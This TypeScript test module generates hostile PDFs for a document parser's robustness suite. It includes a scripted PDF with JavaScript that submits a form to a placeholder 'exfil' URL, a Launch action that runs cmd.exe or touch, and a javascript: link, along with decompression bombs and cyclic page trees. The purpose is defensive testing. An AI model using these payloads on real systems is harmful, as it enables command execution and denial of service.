// Hostile PDFs written byte by byte: a small writer (objects, xref, trailer) and the broken, encrypted, scripted,
// bomb-carrying variants the hostile-input suite feeds to Parley. Everything is generated; nothing is a fixture.
import { createCipheriv, createHash, randomBytes } from 'node:crypto';
import { constants as zlibConstants, deflateRawSync, deflateSync } from 'node:zlib';
import { seededRandom } from '../../../scripts/seeded-random.ts';

const latin1 = (text: string): Uint8Array => new Uint8Array(Buffer.from(text, 'latin1'));
const concat = (parts: Uint8Array[]): Uint8Array => new Uint8Array(Buffer.concat(parts));

/** One indirect object's body: a dictionary/array/number as text, or a stream (dictionary text without /Length, and data). */
export type PdfBody = string | { dict: string; data: Uint8Array };

export interface PdfWriteOptions {
  /** The trailer's entries beyond /Size (e.g. "/Root 1 0 R /Encrypt 9 0 R /ID [...]"). */
  trailer: string;
  /** Applied to every stream's data and every literal string of object n before writing (encryption). */
  transform?: { stream(num: number, data: Uint8Array): Uint8Array; string(num: number, text: string): string };
  /** Write the xref offsets wrong by this many bytes (a broken cross-reference table). */
  xrefSkew?: number;
  version?: string;
}

/** Objects numbered 1..n in order, a classic xref table, a trailer: a well-formed PDF unless told otherwise. */
export function writePdf(objects: PdfBody[], options: PdfWriteOptions): Uint8Array {
  const parts: Uint8Array[] = [latin1(`%PDF-${options.version ?? '1.7'}\n%\u00e2\u00e3\u00cf\u00d3\n`)];
  let offset = parts[0]!.length;
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    const num = i + 1;
    offsets.push(offset);
    let bytes: Uint8Array;
    if (typeof body === 'string') {
      const text = options.transform ? encryptStrings(body, (s) => options.transform!.string(num, s)) : body;
      bytes = latin1(`${num} 0 obj\n${text}\nendobj\n`);
    } else {
      const data = options.transform ? options.transform.stream(num, body.data) : body.data;
      const dict = body.dict.replace(/>>\s*$/, ` /Length ${data.length} >>`);
      bytes = concat([latin1(`${num} 0 obj\n${dict}\nstream\n`), data, latin1('\nendstream\nendobj\n')]);
    }
    parts.push(bytes);
    offset += bytes.length;
  });
  const skew = options.xrefSkew ?? 0;
  const xref = [`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`, ...offsets.map((o) => `${String(Math.max(0, o + skew)).padStart(10, '0')} 00000 n \n`)].join('');
  parts.push(latin1(`${xref}trailer\n<< /Size ${objects.length + 1} ${options.trailer} >>\nstartxref\n${offset}\n%%EOF\n`));
  return concat(parts);
}

/** Replaces each literal string "(...)" (no nested parentheses) with the hex string of its transformed bytes. */
function encryptStrings(text: string, transform: (s: string) => string): string {
  return text.replace(/\(([^()\\]*)\)/g, (_, inner: string) => `<${Buffer.from(transform(inner), 'latin1').toString('hex')}>`);
}

export const contentStream = (ops: string, compress = true): PdfBody =>
  compress ? { dict: '<< /Filter /FlateDecode >>', data: new Uint8Array(deflateSync(latin1(ops))) } : { dict: '<< >>', data: latin1(ops) };

const escapePdfText = (text: string): string => text.replace(/[\\()]/g, (c) => `\\${c}`);

/** Page content that prints each line in Helvetica 11 pt down the page. */
export const textOps = (lines: string[]): string =>
  `BT /F1 11 Tf 72 720 Td 14 TL ${lines.map((l) => `(${escapePdfText(l)}) Tj T*`).join(' ')} ET`;

export const LETTER_LINES = ['Dear Sir or Madam,', 'Please find enclosed our brochure about the new clinic opening hours.', 'Kind regards,', 'The front desk'];

/** Catalog, pages, one page, its content and font: the objects of a one-page text PDF (numbers 1-5). */
export function onePageObjects(lines = LETTER_LINES, extraCatalog = ''): PdfBody[] {
  return [
    `<< /Type /Catalog /Pages 2 0 R ${extraCatalog}>>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>',
    contentStream(textOps(lines)),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
  ];
}

/** A readable one-page PDF that is a letter, not a bill. */
export const letterPdf = (lines = LETTER_LINES): Uint8Array => writePdf(onePageObjects(lines), { trailer: '/Root 1 0 R' });


/** Flips `count` random bytes after the header line (seeded), so the file still sniffs as a PDF. */
export function flipBytes(bytes: Uint8Array, count: number, seed: number): Uint8Array {
  const out = new Uint8Array(bytes);
  const random = seededRandom(seed);
  for (let i = 0; i < count; i++) {
    const at = 16 + Math.floor(random() * (out.length - 16));
    out[at] = out[at]! ^ (1 + Math.floor(random() * 255));
  }
  return out;
}

/** Every cross-reference offset points 7 bytes off and startxref points past the end. */
export function brokenXrefPdf(): Uint8Array {
  const good = writePdf(onePageObjects(), { trailer: '/Root 1 0 R', xrefSkew: 7 });
  const text = Buffer.from(good).toString('latin1').replace(/startxref\n\d+/, 'startxref\n99999999');
  return latin1(text);
}

/**
 * A PDF 1.5 with a cross-reference stream: its catalog and page tree live in an object stream whose compressed
 * bytes are garbage behind a valid zlib header.
 */
export function badObjectStreamPdf(): Uint8Array {
  const garbage = randomBytesSeeded(400, 7);
  garbage[0] = 0x78; // a zlib header, then nonsense
  garbage[1] = 0x9c;
  const header = latin1('%PDF-1.5\n%\u00e2\u00e3\u00cf\u00d3\n');
  const objStm = concat([latin1(`1 0 obj\n<< /Type /ObjStm /N 2 /First 10 /Filter /FlateDecode /Length ${garbage.length} >>\nstream\n`), garbage, latin1('\nendstream\nendobj\n')]);
  const xrefAt = header.length + objStm.length;
  // Rows of /W [1 4 2]: 0 free; 1 in the file; 2 and 3 inside object stream 1; 4 (this stream) in the file.
  const row = (type: number, field2: number, field3: number): number[] => [type, (field2 >>> 24) & 255, (field2 >>> 16) & 255, (field2 >>> 8) & 255, field2 & 255, (field3 >>> 8) & 255, field3 & 255];
  const rows = new Uint8Array([...row(0, 0, 65535), ...row(1, header.length, 0), ...row(2, 1, 0), ...row(2, 1, 1), ...row(1, xrefAt, 0)]);
  const xref = concat([
    latin1(`4 0 obj\n<< /Type /XRef /Size 5 /W [1 4 2] /Root 2 0 R /Length ${rows.length} >>\nstream\n`),
    rows,
    latin1(`\nendstream\nendobj\nstartxref\n${xrefAt}\n%%EOF\n`),
  ]);
  return concat([header, objStm, xref]);
}

function randomBytesSeeded(n: number, seed: number): Uint8Array {
  const random = seededRandom(seed);
  return Uint8Array.from({ length: n }, () => Math.floor(random() * 256));
}

// ---------------------------------------------------------------------------------------------------------------
// The standard security handler (PDF 1.7, 7.6.3): RC4 128-bit (V2 R3) and AES-128 (V4 R4, AESV2).

const PASSWORD_PAD = Buffer.from('28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a', 'hex');
const md5 = (...parts: Uint8Array[]): Buffer => createHash('md5').update(Buffer.concat(parts)).digest();

function rc4(key: Uint8Array, data: Uint8Array): Uint8Array {
  const s = Uint8Array.from({ length: 256 }, (_, i) => i);
  for (let i = 0, j = 0; i < 256; i++) {
    j = (j + s[i]! + key[i % key.length]!) & 255;
    [s[i], s[j]] = [s[j]!, s[i]!];
  }
  const out = new Uint8Array(data.length);
  for (let k = 0, i = 0, j = 0; k < data.length; k++) {
    i = (i + 1) & 255;
    j = (j + s[i]!) & 255;
    [s[i], s[j]] = [s[j]!, s[i]!];
    out[k] = data[k]! ^ s[(s[i]! + s[j]!) & 255]!;
  }
  return out;
}

const padded = (password: string): Buffer => Buffer.concat([Buffer.from(password, 'latin1'), PASSWORD_PAD]).subarray(0, 32);

export interface EncryptOptions {
  cipher: 'rc4' | 'aes';
  /** Empty: anyone may open the file (an owner password only restricts printing, copying...). */
  userPassword: string;
  ownerPassword: string;
}

/** Writes a PDF whose strings and streams are encrypted with the standard security handler. */
export function encryptedPdf(objects: PdfBody[], trailer: string, options: EncryptOptions): Uint8Array {
  const keyLength = 16;
  const id = md5(Buffer.from(`hostile-${options.cipher}-${options.userPassword}`));
  const permissions = -3904; // printing and copying not allowed (bits 3-6 off...), as owner-protected files are
  const p = Buffer.alloc(4);
  p.writeInt32LE(permissions);
  // Algorithm 3: the O entry.
  let ownerKey = md5(padded(options.ownerPassword || options.userPassword));
  for (let i = 0; i < 50; i++) ownerKey = md5(ownerKey);
  let o: Uint8Array = rc4(ownerKey.subarray(0, keyLength), padded(options.userPassword));
  for (let i = 1; i <= 19; i++) o = rc4(ownerKey.subarray(0, keyLength).map((b) => b ^ i), o);
  // Algorithm 2: the file key.
  let key = md5(padded(options.userPassword), o, p, id);
  for (let i = 0; i < 50; i++) key = md5(key.subarray(0, keyLength));
  key = key.subarray(0, keyLength);
  // Algorithm 5: the U entry (R3+).
  let u: Uint8Array = rc4(key, md5(PASSWORD_PAD, id));
  for (let i = 1; i <= 19; i++) u = rc4(key.map((b) => b ^ i), u);
  const uEntry = Buffer.concat([u, Buffer.alloc(16)]);

  const objectKey = (num: number): Buffer => {
    const salt = Buffer.from([num & 255, (num >> 8) & 255, (num >> 16) & 255, 0, 0]);
    return md5(key, salt, options.cipher === 'aes' ? Buffer.from('sAlT') : Buffer.alloc(0)).subarray(0, Math.min(keyLength + 5, 16));
  };
  const encrypt = (num: number, data: Uint8Array): Uint8Array => {
    if (options.cipher === 'rc4') return rc4(objectKey(num), data);
    const iv = randomBytes(16);
    const cipher = createCipheriv('aes-128-cbc', objectKey(num), iv);
    return concat([iv, cipher.update(data), cipher.final()]);
  };
  const encryptNum = objects.length + 1;
  const hex = (b: Uint8Array) => `<${Buffer.from(b).toString('hex')}>`;
  const encryptDict =
    options.cipher === 'rc4'
      ? `<< /Filter /Standard /V 2 /R 3 /Length 128 /P ${permissions} /O ${hex(o)} /U ${hex(uEntry)} >>`
      : `<< /Filter /Standard /V 4 /R 4 /Length 128 /P ${permissions} /O ${hex(o)} /U ${hex(uEntry)} /CF << /StdCF << /CFM /AESV2 /AuthEvent /DocOpen /Length 16 >> >> /StmF /StdCF /StrF /StdCF >>`;
  // The encryption dictionary itself is never encrypted: write it after the others, untransformed.
  const body = writePdf([...objects, '<< >>'], {
    trailer: `${trailer} /Encrypt ${encryptNum} 0 R /ID [${hex(id)} ${hex(id)}]`,
    transform: {
      stream: (num, data) => (num === encryptNum ? data : encrypt(num, data)),
      string: (num, text) => (num === encryptNum ? text : Buffer.from(encrypt(num, latin1(text))).toString('latin1')),
    },
  });
  // Swap the placeholder for the real dictionary, keeping every offset: pad the object to the same length.
  const text = Buffer.from(body).toString('latin1');
  const placeholder = `${encryptNum} 0 obj\n<< >>\nendobj\n`;
  const at = text.lastIndexOf(placeholder);
  const withDict = `${encryptNum} 0 obj\n${encryptDict}\nendobj\n`;
  // Rewrite from the object on: its own offset stays; xref's startxref moves by the length difference.
  const before = text.slice(0, at);
  const after = text.slice(at + placeholder.length);
  const delta = withDict.length - placeholder.length;
  const fixed = after.replace(/startxref\n(\d+)/, (_, n: string) => `startxref\n${Number(n) + delta}`);
  return latin1(before + withDict + fixed);
}

// ---------------------------------------------------------------------------------------------------------------
// Active content, page-tree bombs, decompression bombs.

/** A one-page letter that carries JavaScript in OpenAction and page actions, and a Launch action to a shell command. */
export function scriptedPdf(markerPath: string): Uint8Array {
  const js = `app.alert('pwned'); this.submitForm('http://127.0.0.1:9/exfil'); globalThis.__parleyHostilePwned = 1;`;
  const objects = onePageObjects(LETTER_LINES, '/OpenAction 6 0 R /AA << /WC 7 0 R >> /Names << /JavaScript << /Names [(pwn) 6 0 R] >> >> ');
  objects[2] = `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R /AA << /O 7 0 R >> /Annots [8 0 R] >>`;
  objects.push(
    `<< /Type /Action /S /JavaScript /JS (${js}) /Next 7 0 R >>`,
    `<< /Type /Action /S /Launch /F (/usr/bin/touch) /Win << /F (cmd.exe) /P (/c calc.exe) >> /Unix << /F (/usr/bin/touch) /P (${markerPath}) >> >>`,
    `<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (javascript:alert(1)) >> >>`,
  );
  return writePdf(objects, { trailer: '/Root 1 0 R' });
}

/** A page tree whose /Count claims `claimed` pages while it holds one. */
export function lyingPageCountPdf(claimed: number): Uint8Array {
  const objects = onePageObjects();
  objects[1] = `<< /Type /Pages /Kids [3 0 R] /Count ${claimed} >>`;
  return writePdf(objects, { trailer: '/Root 1 0 R' });
}

/** A page tree that is its own grandchild: Pages -> Pages -> the first Pages again. */
export function cyclicPageTreePdf(): Uint8Array {
  const objects = onePageObjects();
  objects[1] = '<< /Type /Pages /Kids [6 0 R 3 0 R] /Count 3 >>';
  objects.push('<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 2 >>');
  return writePdf(objects, { trailer: '/Root 1 0 R' });
}

/** `pages` real pages sharing one font and one content stream (a letter): small on disk, huge to read whole. */
export function manyPagesPdf(pages: number): Uint8Array {
  const objects: PdfBody[] = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${Array.from({ length: pages }, (_, i) => `${i + 5} 0 R`).join(' ')}] /Count ${pages} >>`,
    contentStream(textOps(LETTER_LINES)),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  for (let i = 0; i < pages; i++) objects.push('<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> >> /Contents 3 0 R >>');
  return writePdf(objects, { trailer: '/Root 1 0 R' });
}

const SEGMENT_BYTES = 8 * 1024 * 1024;
const segments = new Map<number, Buffer>();

/**
 * A zlib stream of `inflatedBytes` (rounded up to 8 MB) of one byte value, built without deflating all of it: one
 * 8 MB run is deflated with a full flush (byte-aligned, no reference to what came before), repeated, then closed
 * with an empty final block and the Adler-32 of the whole.
 */
export function deflatedFill(inflatedBytes: number, fill = 0x20): Uint8Array {
  let segment = segments.get(fill);
  if (!segment) {
    segment = deflateRawSync(Buffer.alloc(SEGMENT_BYTES, fill), { level: 9, finishFlush: zlibConstants.Z_FULL_FLUSH });
    segments.set(fill, segment);
  }
  const count = Math.max(1, Math.ceil(inflatedBytes / SEGMENT_BYTES));
  const total = BigInt(count * SEGMENT_BYTES);
  const a = (1n + BigInt(fill) * total) % 65521n;
  const b = (total + (BigInt(fill) * total * (total + 1n)) / 2n) % 65521n;
  const adler = Buffer.alloc(4);
  adler.writeUInt32BE(Number((b << 16n) | a));
  return new Uint8Array(Buffer.concat([Buffer.from([0x78, 0xda]), ...Array.from({ length: count }, () => segment), Buffer.from([0x03, 0x00]), adler]));
}

/** A one-page PDF whose content stream inflates to `inflatedBytes` of spaces after the visible text. */
export function flateBombPdf(inflatedBytes: number): Uint8Array {
  const objects = onePageObjects();
  objects[3] = { dict: '<< /Filter /FlateDecode >>', data: deflatedFill(inflatedBytes) };
  return writePdf(objects, { trailer: '/Root 1 0 R' });
}

/** The same bomb, hex-encoded in front of the deflate: [/ASCIIHexDecode /FlateDecode]. */
export function hexFlateBombPdf(inflatedBytes: number): Uint8Array {
  const objects = onePageObjects();
  const hex = Buffer.from(Buffer.from(deflatedFill(inflatedBytes)).toString('hex') + '>', 'latin1');
  objects[3] = { dict: '<< /Filter [/ASCIIHexDecode /FlateDecode] >>', data: new Uint8Array(hex) };
  return writePdf(objects, { trailer: '/Root 1 0 R' });
}

/** Deflate of a deflate: 1 MB of file, a first stage of about 1 MB... that expands to `inflatedBytes` at the second. */
export function doubleFlateBombPdf(inflatedBytes: number): Uint8Array {
  const objects = onePageObjects();
  // Inner: a deflate of zeros (about inflatedBytes / 1000); outer: a deflate of that (it compresses well again).
  const inner = deflatedFill(inflatedBytes);
  objects[3] = { dict: '<< /Filter [/FlateDecode /FlateDecode] >>', data: new Uint8Array(deflateSync(inner, { level: 9 })) };
  return writePdf(objects, { trailer: '/Root 1 0 R' });
}

/** A PDF cut at `fraction` of its length. */
export const truncated = (bytes: Uint8Array, fraction: number): Uint8Array => bytes.subarray(0, Math.floor(bytes.length * fraction));
